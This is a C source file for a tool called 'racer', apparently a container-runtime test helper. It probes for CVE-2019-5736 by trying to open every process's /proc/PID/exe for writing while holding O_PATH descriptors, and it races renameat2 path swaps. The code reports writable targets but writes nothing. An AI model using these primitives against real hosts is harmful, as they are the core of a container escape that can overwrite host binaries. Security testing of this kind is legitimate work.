/* racer - does one thing all the time, beside what a spec does.
 *
 *   racer grab SECONDS           opens the program of every process that it sees for writing: at once, and through an O_PATH
 *                                descriptor that it keeps until nobody runs that program any more (CVE-2019-5736).
 *                                Prints "held N", how many such descriptors it got, and "writable PATH" for each success
 *   racer flip SECONDS A B       exchanges the two names (renameat2(2), RENAME_EXCHANGE); prints "flips N" */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum { KEPT = 256 };

static double now(void)
{
    struct timespec at;
    clock_gettime(CLOCK_MONOTONIC, &at);
    return (double)at.tv_sec + (double)at.tv_nsec / 1e9;
}

/* Opens what `path` leads to for writing; says what it was. */
static void try_write(const char *path)
{
    char link[64], target[PATH_MAX];
    int fd = open(path, O_RDWR);
    if (fd < 0)
        return;
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t got = readlink(link, target, sizeof target - 1);
    close(fd);
    target[got > 0 ? got : 0] = '\0';
    printf("writable %s\n", target);
    fflush(stdout);
}

static void try_kept(int fd)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    try_write(path);
}

static void grab(double until)
{
    int kept[KEPT];
    long held = 0;
    pid_t self = getpid();
    for (int i = 0; i < KEPT; i++)
        kept[i] = -1;
    while (now() < until) {
        DIR *dir = opendir("/proc");
        struct dirent *entry;
        while (dir && (entry = readdir(dir))) {
            char path[64];
            if (atoi(entry->d_name) < 1 || atoi(entry->d_name) == self)
                continue;
            snprintf(path, sizeof path, "/proc/%d/exe", atoi(entry->d_name));
            try_write(path);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue;
            int *place = &kept[held++ % KEPT];
            if (*place >= 0) {
                try_kept(*place);
                close(*place);
            }
            *place = fd;
            try_kept(fd);
        }
        if (dir)
            closedir(dir);
    }
    for (int i = 0; i < KEPT; i++)
        if (kept[i] >= 0)
            try_kept(kept[i]);
    printf("held %ld\n", held);
}

static void flip(double until, const char *a, const char *b)
{
    long flips = 0;
    while (now() < until)
        flips += renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
    printf("flips %ld\n", flips);
}

int main(int argc, char **argv)
{
    const char *action = argc > 2 ? argv[1] : "";
    double until = argc > 2 ? now() + atof(argv[2]) : 0;
    if (strcmp(action, "grab") == 0 && argc == 3)
        grab(until);
    else if (strcmp(action, "flip") == 0 && argc == 5)
        flip(until, argv[3], argv[4]);
    else
        return 64;
    return 0;
}
